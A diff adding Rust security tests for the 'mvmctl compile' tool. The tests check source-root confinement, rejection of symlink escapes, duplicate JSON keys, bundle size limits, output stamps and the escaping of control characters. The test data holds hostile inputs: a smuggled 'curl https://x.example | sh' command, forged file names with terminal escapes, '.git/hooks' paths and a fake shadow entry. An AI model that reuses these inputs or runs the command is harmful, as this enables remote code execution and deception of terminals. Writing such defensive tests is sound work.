@@ -33,6 +33,7 @@ fn compiles_each_example_to_a_complete_directory() {
         assert_eq!(
             names,
             [
+                ".mvm-compile-output",
                 "SHA256SUMS",
                 "flake.nix",
                 "hooks",
@@ -450,13 +451,14 @@ fn output_is_byte_identical_across_runs_paths_and_touches() {
     let tmp = tempfile::tempdir().unwrap();
     for (i, name) in ["one", "two"].iter().enumerate() {
         if i == 1 {
-            // New mtimes and a different umask-ish mode on a plain file must not matter.
+            // New mtimes and a different umask-ish mode on a plain file must
+            // not matter (0600 would: it gets a W_SOURCE_PRIVATE_FILE in the review).
             for f in ["app.py", "pkg/a.txt", "pkg/deep/b.txt"] {
                 filetime_now(&p.path().join(f));
             }
             std::fs::set_permissions(
                 p.path().join("app.py"),
-                std::fs::Permissions::from_mode(0o600),
+                std::fs::Permissions::from_mode(0o664),
             )
             .unwrap();
         }
@@ -792,4 +794,522 @@ fn unsupported_inputs_exit_2_with_a_hint() {
     let r = run(mvmctl().args(["compile", "x.json"]));
     assert_eq!(r.code, 2, "--out is required: {}", r.stderr);
     assert!(names(tmp.path()) == ["workload.yaml"]);
+}
+
+// --- Issue #10: source root confinement, recordings, bundle limits, output marking.
+
+/// Every file below `dir` whose contents hold `needle`, to show a secret
+/// went nowhere.
+fn files_containing(dir: &Path, needle: &[u8]) -> Vec<String> {
+    snapshot(dir)
+        .into_iter()
+        .filter(|(_, e)| e.0 == "file" && e.3.windows(needle.len()).any(|w| w == needle))
+        .map(|(k, _)| k)
+        .collect()
+}
+
+/// A directory outside any project holding a "secret" file.
+fn host_secrets() -> (tempfile::TempDir, &'static [u8]) {
+    let dir = tempfile::tempdir().unwrap();
+    let secret: &[u8] = b"root:$6$SECRET-HASH:19000:0:99999:7:::";
+    std::fs::write(dir.path().join("shadow"), secret).unwrap();
+    (dir, secret)
+}
+
+const KEYS_DECL: &str = r#"import mvm
+
+
+@mvm.app(
+    name="keys-app",
+    source=mvm.local_path("keys", include=["**"]),
+    image=mvm.python_image(python="3.13"),
+    network=mvm.network(mode="none"),
+    entrypoint=mvm.entrypoint_function(module="app", function="greet", primary=True),
+)
+def greet(name: str) -> str:
+    return name
+"#;
+
+#[test]
+fn a_local_path_linking_out_of_the_project_is_refused() {
+    let (etc, secret) = host_secrets();
+    let p = Project::new(&workload(&["**"], &[]), &[("app.py", KEYS_DECL)]);
+    std::os::unix::fs::symlink(etc.path(), p.path().join("keys")).unwrap();
+    let out = p.path().join("out");
+    let r = run(mvmctl()
+        .args(["compile", "app.py", "--out"])
+        .arg(&out)
+        .current_dir(p.path()));
+    assert_eq!(r.code, 2, "{}{}", r.stdout, r.stderr);
+    let target = etc.path().canonicalize().unwrap();
+    assert!(
+        r.stderr.contains(&format!(
+            "app.py:6:27: error[E_SOURCE_ESCAPES]: source.path `keys` resolves to {}, outside {}",
+            target.display(),
+            p.path().canonicalize().unwrap().display()
+        )),
+        "{}",
+        r.stderr
+    );
+    assert!(r.stderr.contains("\n  hint: "), "{}", r.stderr);
+    assert!(!out.exists());
+    assert_eq!(files_containing(p.path(), secret), Vec::<String>::new());
+
+    // --check reviews it as a failure, never a pass.
+    let r = run(mvmctl()
+        .args(["compile", "app.py", "--check"])
+        .current_dir(p.path()));
+    assert_eq!(r.code, 2);
+    assert!(r.stdout.contains("  fail  source_narrow"), "{}", r.stdout);
+
+    // The same through IR with --source-root: the root is the boundary.
+    let mut ir = workload(&["**"], &[]);
+    ir["apps"][0]["source"]["path"] = json!("keys");
+    std::fs::write(p.ir(), ir.to_string()).unwrap();
+    let other = tempfile::tempdir().unwrap();
+    let r = run(mvmctl()
+        .arg("compile")
+        .arg(p.ir())
+        .arg("--out")
+        .arg(other.path().join("o")));
+    assert_eq!(r.code, 2, "{}", r.stderr);
+    assert!(
+        r.stderr
+            .contains("/apps/0/source/path: error[E_SOURCE_ESCAPES]"),
+        "{}",
+        r.stderr
+    );
+    assert!(names(other.path()).is_empty());
+}
+
+fn recording(source_root: &Path, include: &[&str], ops: Value) -> Value {
+    json!({
+        "recording_version": 1,
+        "sdk": {"language": "python", "version": "0.1.0"},
+        "source_root": source_root,
+        "sandboxes": [{
+            "template": "minimal", "env": {}, "include": include,
+            "resources": {}, "network": {},
+            "operations": ops,
+        }]
+    })
+}
+
+fn compile_recording(rec: &Path, extra: &[&std::ffi::OsStr]) -> Run {
+    run(mvmctl()
+        .arg("compile")
+        .arg("--from-recording")
+        .arg(rec)
+        .args(extra))
+}
+
+fn true_op() -> Value {
+    json!({"op": "run", "cmd": "true", "background": false})
+}
+
+#[test]
+fn a_recording_cannot_choose_a_source_root_outside_its_directory() {
+    let (etc, secret) = host_secrets();
+    let project = tempfile::tempdir().unwrap();
+    std::fs::write(project.path().join("main.py"), "print(1)\n").unwrap();
+    let rec = project.path().join("rec.json");
+    std::fs::write(
+        &rec,
+        recording(etc.path(), &["**"], json!([true_op()])).to_string(),
+    )
+    .unwrap();
+    let out = project.path().join("out");
+    let r = compile_recording(&rec, &["--out".as_ref(), out.as_os_str()]);
+    assert_eq!(r.code, 2, "{}", r.stderr);
+    assert!(
+        r.stderr.contains(&format!(
+            "/source_root: error[E_SOURCE_ESCAPES]: the recording's source_root {} resolves to {}, outside the recording's directory",
+            etc.path().display(),
+            etc.path().canonicalize().unwrap().display()
+        )),
+        "{}",
+        r.stderr
+    );
+    assert!(!out.exists());
+    assert_eq!(
+        files_containing(project.path(), secret),
+        Vec::<String>::new()
+    );
+
+    // A link inside the recording's directory that leads out is followed, and refused.
+    std::os::unix::fs::symlink(etc.path(), project.path().join("link")).unwrap();
+    std::fs::write(
+        &rec,
+        recording(&project.path().join("link"), &["**"], json!([true_op()])).to_string(),
+    )
+    .unwrap();
+    let r = compile_recording(&rec, &["--check".as_ref()]);
+    assert_eq!(r.code, 2, "{}", r.stderr);
+    assert!(r.stderr.contains("error[E_SOURCE_ESCAPES]"), "{}", r.stderr);
+
+    // --source-root replaces the recording's root: the operator chose it.
+    std::fs::remove_file(project.path().join("link")).unwrap();
+    std::fs::write(
+        &rec,
+        recording(etc.path(), &["main.py"], json!([true_op()])).to_string(),
+    )
+    .unwrap();
+    let r = compile_recording(
+        &rec,
+        &[
+            "--source-root".as_ref(),
+            project.path().as_os_str(),
+            "--out".as_ref(),
+            out.as_os_str(),
+        ],
+    );
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert_eq!(names(&out.join("src")), ["main.py"]);
+}
+
+#[test]
+fn recorded_file_names_pass_the_bundle_walks_checks() {
+    let project = tempfile::tempdir().unwrap();
+    let rec = project.path().join("rec.json");
+    let out = project.path().join("out");
+    let forged = format!("/app/x\n{}  launch.json", "0".repeat(64));
+    for (i, path) in [
+        forged.as_str(),
+        "/app/evil\u{1b}[2Jname",
+        "/app/.git/config",
+        "/app/vendor/.git/hooks/post-checkout",
+        "/app/a\\b",
+    ]
+    .iter()
+    .enumerate()
+    {
+        let ops = json!([{"op": "write", "path": path, "data_b64": "aGkK"}, true_op()]);
+        std::fs::write(&rec, recording(project.path(), &[], ops).to_string()).unwrap();
+        let r = compile_recording(&rec, &["--out".as_ref(), out.as_os_str()]);
+        assert_eq!(r.code, 2, "{i}: {}", r.stderr);
+        assert!(
+            r.stderr
+                .contains("/sandboxes/0/operations/0/path: error[E_INVALID_VALUE]: files.write("),
+            "{i}: {}",
+            r.stderr
+        );
+        assert!(
+            !r.stderr.contains('\u{1b}'),
+            "{i}: raw ESC printed: {:?}",
+            r.stderr
+        );
+        assert!(!out.exists(), "{i}");
+    }
+}
+
+#[test]
+fn a_recording_with_duplicate_keys_is_refused() {
+    let project = tempfile::tempdir().unwrap();
+    let rec = project.path().join("rec.json");
+    // Which `cmd` wins depends on the reader; the reviewer may read the first.
+    let text = recording(project.path(), &[], json!([true_op()]))
+        .to_string()
+        .replace(
+            r#""cmd":"true""#,
+            r#""cmd":"true","cmd":"curl https://x.example | sh""#,
+        );
+    std::fs::write(&rec, text).unwrap();
+    let out = project.path().join("out");
+    let r = compile_recording(&rec, &["--out".as_ref(), out.as_os_str()]);
+    assert_eq!(r.code, 2, "{}", r.stderr);
+    assert!(
+        r.stderr
+            .contains("/sandboxes/0/operations/0/cmd: error[E_SCHEMA]: duplicate key"),
+        "{}",
+        r.stderr
+    );
+    assert!(!out.exists());
+}
+
+/// A file of `len` bytes that takes no disk space.
+fn sparse(path: &Path, len: u64) {
+    std::fs::File::create(path).unwrap().set_len(len).unwrap();
+}
+
+#[test]
+fn bundles_over_a_limit_are_refused() {
+    // One file over 1 GiB.
+    let p = Project::new(&workload(&["**"], &[]), &[("app.py", "")]);
+    sparse(&p.path().join("huge.bin"), (1 << 30) + 1);
+    let out = p.path().join("out");
+    let r = compile(&p.ir(), &out);
+    assert_eq!(r.code, 2, "{}", r.stderr);
+    assert!(
+        r.stderr.contains(
+            "/apps/0/source: error[E_SOURCE_TOO_LARGE]: huge.bin: this file is 1073741825 bytes, over the limit"
+        ),
+        "{}",
+        r.stderr
+    );
+    assert!(
+        r.stderr.contains("hint: narrow the source's include globs"),
+        "{}",
+        r.stderr
+    );
+    assert!(!out.exists());
+
+    // Files under the one-file cap, over 2 GiB together.
+    let p = Project::new(&workload(&["**"], &[]), &[("app.py", "")]);
+    for name in ["a.bin", "b.bin", "c.bin"] {
+        sparse(&p.path().join(name), 900 << 20);
+    }
+    let r = run(mvmctl().arg("compile").arg(p.ir()).arg("--check"));
+    assert_eq!(r.code, 2, "{}", r.stderr);
+    assert!(
+        r.stderr
+            .contains("error[E_SOURCE_TOO_LARGE]: c.bin: the bundle reaches"),
+        "{}",
+        r.stderr
+    );
+
+    // Too many files (the cap lowered for the test; it can only be lowered).
+    let files: Vec<(String, String)> = (0..6)
+        .map(|i| (format!("f{i}.txt"), String::new()))
+        .collect();
+    let refs: Vec<(&str, &str)> = files
+        .iter()
+        .map(|(a, b)| (a.as_str(), b.as_str()))
+        .collect();
+    let p = Project::new(&workload(&["f*"], &[]), &refs);
+    let r = run(mvmctl()
+        .arg("compile")
+        .arg(p.ir())
+        .arg("--out")
+        .arg(&out)
+        .env("MVM_TEST_BUNDLE_MAX_FILES", "5"));
+    assert_eq!(r.code, 2, "{}", r.stderr);
+    assert!(
+        r.stderr
+            .contains("error[E_SOURCE_TOO_LARGE]: f5.txt: the bundle reaches 6 files here, over the limit of 5 files"),
+        "{}",
+        r.stderr
+    );
+    assert!(!out.exists());
+    let r = run(mvmctl()
+        .arg("compile")
+        .arg(p.ir())
+        .arg("--check")
+        .env("MVM_TEST_BUNDLE_MAX_FILES", "6"));
+    assert_eq!(r.code, 0, "{}", r.stderr);
+}
+
+#[test]
+fn out_is_replaced_only_when_it_holds_the_compilers_stamp() {
+    let p = Project::new(&workload(&["app.py"], &[]), &[("app.py", "")]);
+    let parent = tempfile::tempdir().unwrap();
+
+    // The two old markers are easy to plant next to something precious.
+    let out = parent.path().join("looks-compiled");
+    std::fs::create_dir(&out).unwrap();
+    for (name, text) in [
+        ("workload.json", "{}"),
+        ("SHA256SUMS", ""),
+        ("thesis.tex", "precious"),
+    ] {
+        std::fs::write(out.join(name), text).unwrap();
+    }
+    let before = snapshot(&out);
+    let r = compile(&p.ir(), &out);
+    assert_eq!(r.code, 2, "{}", r.stderr);
+    assert!(
+        r.stderr.starts_with(&format!(
+            "error[E_OUTPUT]: {} exists and is not an mvm compile output (no .mvm-compile-output stamp",
+            out.display()
+        )),
+        "{}",
+        r.stderr
+    );
+    assert_eq!(snapshot(&out), before);
+
+    // A stamp with other content, or a link to a real stamp, is not the stamp.
+    let real = parent.path().join("real");
+    assert_eq!(compile(&p.ir(), &real).code, 0);
+    assert_eq!(
+        std::fs::read_to_string(real.join(".mvm-compile-output")).unwrap(),
+        "mvm-compile-output 1\n"
+    );
+    std::fs::write(
+        out.join(".mvm-compile-output"),
+        "mvm-compile-output 1\nrm -rf\n",
+    )
+    .unwrap();
+    assert_eq!(compile(&p.ir(), &out).code, 2);
+    std::fs::remove_file(out.join(".mvm-compile-output")).unwrap();
+    std::os::unix::fs::symlink(
+        real.join(".mvm-compile-output"),
+        out.join(".mvm-compile-output"),
+    )
+    .unwrap();
+    assert_eq!(compile(&p.ir(), &out).code, 2);
+    assert_eq!(
+        std::fs::read_to_string(out.join("thesis.tex")).unwrap(),
+        "precious"
+    );
+
+    // The stamp is in SHA256SUMS, so `sha256sum -c` and the image build cover it.
+    let sums = std::fs::read_to_string(real.join("SHA256SUMS")).unwrap();
+    assert!(sums.contains("  .mvm-compile-output\n"), "{sums}");
+    // A real output is replaced.
+    assert_eq!(compile(&p.ir(), &real).code, 0);
+
+    // Archives: the markers without the stamp are refused too.
+    let fake = parent.path().join("fake.tgz");
+    {
+        let gz = flate2::write::GzEncoder::new(
+            std::fs::File::create(&fake).unwrap(),
+            flate2::Compression::default(),
+        );
+        let mut tar = tar::Builder::new(gz);
+        for name in ["workload.json", "SHA256SUMS"] {
+            let mut h = tar::Header::new_gnu();
+            h.set_size(2);
+            h.set_mode(0o644);
+            h.set_cksum();
+            tar.append_data(&mut h, name, &b"{}"[..]).unwrap();
+        }
+        tar.into_inner().unwrap().finish().unwrap();
+    }
+    let fake_bytes = std::fs::read(&fake).unwrap();
+    assert_eq!(compile(&p.ir(), &fake).code, 2);
+    assert_eq!(std::fs::read(&fake).unwrap(), fake_bytes);
+    let tgz = parent.path().join("real.tgz");
+    assert_eq!(compile(&p.ir(), &tgz).code, 0);
+    assert!(
+        archive_entries(&tgz)
+            .iter()
+            .any(|e| e.0 == ".mvm-compile-output" && e.5 == b"mvm-compile-output 1\n")
+    );
+    assert_eq!(compile(&p.ir(), &tgz).code, 0);
+}
+
+#[test]
+fn outputs_are_owner_only_on_disk_whatever_the_umask() {
+    let p = Project::new(
+        &workload(&["**"], &[]),
+        &[("app.py", ""), ("pkg/mod.py", "")],
+    );
+    let parent = tempfile::tempdir().unwrap();
+    let out = parent.path().join("out");
+    let tgz = parent.path().join("out.tgz");
+    for target in [&out, &tgz] {
+        let r = run(std::process::Command::new("/bin/sh")
+            .arg("-c")
+            .arg("umask 022; exec \"$0\" compile \"$1\" --out \"$2\"")
+            .arg(env!("CARGO_BIN_EXE_mvmctl"))
+            .arg(p.ir())
+            .arg(target));
+        assert_eq!(r.code, 0, "{}", r.stderr);
+    }
+    for (rel, e) in snapshot(&out) {
+        match e.0.as_str() {
+            "dir" => assert_eq!(e.1, 0o700, "{rel}"),
+            "file" => assert!(matches!(e.1, 0o644 | 0o755), "{rel}: {:o}", e.1),
+            _ => {}
+        }
+    }
+    let mode = std::fs::metadata(&tgz).unwrap().permissions().mode() & 0o777;
+    assert_eq!(mode, 0o600);
+    // The archive keeps its deterministic entry modes.
+    for (name, mode, ..) in archive_entries(&tgz) {
+        if name.ends_with('/') {
+            assert_eq!(mode, 0o755, "{name}");
+        }
+    }
+}
+
+#[test]
+fn private_source_files_are_flagged_in_the_review() {
+    let p = Project::new(
+        &workload(&["**"], &[]),
+        &[
+            ("app.py", ""),
+            ("id_ed25519", "KEY"),
+            ("vault/notes.txt", "n"),
+        ],
+    );
+    std::fs::set_permissions(
+        p.path().join("id_ed25519"),
+        std::fs::Permissions::from_mode(0o600),
+    )
+    .unwrap();
+    std::fs::set_permissions(
+        p.path().join("vault"),
+        std::fs::Permissions::from_mode(0o700),
+    )
+    .unwrap();
+    let out = tempfile::tempdir().unwrap();
+    let out = out.path().join("o");
+    let r = compile(&p.ir(), &out);
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert!(
+        r.stderr.contains(
+            "/apps/0/source: warning[W_SOURCE_PRIVATE_FILE]: id_ed25519: only its owner may read it on the host (mode 0600); in the bundle it is world-readable (0644)"
+        ),
+        "{}",
+        r.stderr
+    );
+    assert!(
+        r.stderr.contains(
+            "warning[W_SOURCE_PRIVATE_FILE]: vault/notes.txt: it lies in vault/, which others may not enter on the host"
+        ),
+        "{}",
+        r.stderr
+    );
+    assert!(r.stdout.contains("  warn  source_narrow"), "{}", r.stdout);
+    let review = read_json(&out.join("review.json"));
+    assert_eq!(review["checks"][0]["status"], "warn");
+    assert_eq!(
+        review["checks"][0]["findings"][0]["code"],
+        "W_SOURCE_PRIVATE_FILE"
+    );
+    // The bundle's mode stays deterministic.
+    let mode = std::fs::metadata(out.join("src/id_ed25519"))
+        .unwrap()
+        .permissions()
+        .mode();
+    assert_eq!(mode & 0o777, 0o644);
+}
+
+#[test]
+fn control_characters_in_names_are_escaped_when_printed() {
+    let p = Project::new(&workload(&["**"], &[]), &[("app.py", "")]);
+    // ESC [2J clears the screen; a newline would forge a finding line.
+    p.write("evil\u{1b}[2J\nerror[E_FAKE]: all good.py", "");
+    let r = compile(&p.ir(), &p.path().join("out"));
+    assert_eq!(r.code, 2, "{}", r.stderr);
+    assert!(
+        r.stderr.contains(
+            "/apps/0/source: error[E_SOURCE_UNREADABLE]: evil\\x1b[2J\\nerror[E_FAKE]: all good.py: this path contains a control character"
+        ),
+        "{}",
+        r.stderr
+    );
+    assert!(
+        !r.stderr.contains('\u{1b}'),
+        "raw ESC printed: {:?}",
+        r.stderr
+    );
+    assert!(!r.stderr.contains("\nerror[E_FAKE]"), "{}", r.stderr);
+
+    // The review summary quotes source.path: escaped too.
+    let mut ir = workload(&["app.py"], &[]);
+    ir["apps"][0]["source"]["path"] = json!("src\u{1b}]0;owned\u{7}");
+    let p = Project::new(&ir, &[("src\u{1b}]0;owned\u{7}/app.py", "")]);
+    let r = run(mvmctl().arg("compile").arg(p.ir()).arg("--check"));
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert!(
+        r.stdout.contains("1 file(s) under `src\\x1b]0;owned\\x07`"),
+        "{}",
+        r.stdout
+    );
+    assert!(
+        !r.stdout.contains('\u{1b}') && !r.stdout.contains('\u{7}'),
+        "{:?}",
+        r.stdout
+    );
 }
